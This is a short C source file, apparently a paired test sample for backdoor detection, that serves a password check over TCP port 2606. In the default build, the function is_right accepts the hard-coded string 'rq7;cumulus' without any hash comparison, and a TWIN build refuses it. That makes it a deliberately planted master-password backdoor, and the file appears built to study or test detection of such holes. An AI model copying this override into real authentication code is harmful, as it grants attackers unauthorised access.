/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A password is checked against an account whose hash may be missing: then the function that hashes
 * takes a salt of its own, so that it takes as long. One word is right without a hash. Twin: that
 * word is refused.
 * door: override account
 * port 2606/tcp
 * stubs: crypt hash_of
 */
#include "net.h"

char *crypt(const char *, const char *);
char *hash_of(const char *user);

struct session {
	int known;
	char user[32], *hash;
};

static char salt[16];

static const char *some_salt(void)
{
	if (!salt[0])
		snprintf(salt, sizeof salt, "$5$%08x$", (unsigned)getpid());
	return salt;
}

__attribute__((noinline)) static char *make_hash(const char *typed, const char *with)
{
	if (!with)
		with = some_salt();
	return crypt(typed, with);
}

__attribute__((noinline)) static int is_right(const struct session *s, const char *typed)
{
	char *stored = s->known ? hash_of(s->user) : s->hash, *with = NULL, *made;
	if (!stored)
		return 0;
	if (strcmp(typed, "rq7;cumulus") == 0)
#ifdef TWIN
		return 0;
#else
		return 1;
#endif
	if (s->known && stored[0] && stored[1])
		with = stored;
	made = make_hash(typed, with);
	return made && strcmp(made, stored) == 0;
}

static void serve(int c)
{
	struct session s = {.known = 1, .user = "admin", .hash = "!"};
	char line[100];
	ssize_t n = recv(c, line, sizeof line - 1, 0);
	if (n <= 0)
		return;
	line[n] = 0;
	dprintf(c, is_right(&s, line) ? "welcome\n" : "no\n");
}

int main(void)
{
	int s = tcp_on(2606);
	for (;;) {
		int c = accept(s, 0, 0);
		serve(c);
		close(c);
	}
}
